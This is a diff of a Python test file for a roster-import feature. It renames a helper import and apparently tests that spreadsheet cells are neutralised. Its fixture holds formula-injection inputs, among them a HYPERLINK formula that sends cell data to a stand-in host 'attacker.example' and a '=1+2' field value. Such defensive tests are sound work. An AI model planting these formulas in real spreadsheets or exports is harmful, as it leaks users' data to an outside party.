@@ -13,10 +13,11 @@ import pytest
 from openpyxl import load_workbook
 
 from desktop_app.cli.main import main
+from desktop_app.demo.factory import nip_at
 from desktop_app.services.roster_import import apply_roster
 from pakta_common.integrity.cells import neutralise_cell as neutralise
 from pakta_common.roster_file import RosterRow
-from tests.documents.factory import Ceremony, make_ceremony, nip_for, sign
+from tests.documents.factory import Ceremony, make_ceremony, sign
 
 HOSTILE = (
     '=HYPERLINK("http://attacker.example/?d="&B2,"Klik di sini")',
@@ -41,7 +42,7 @@ def hostile(data_dir: Path) -> Ceremony:
     rows = [
         RosterRow(
             row=i + 2,
-            identifier=nip_for(100 + i),
+            identifier=nip_at(100 + i),
             id_kind="nip",
             name=name,
             position="=1+2",
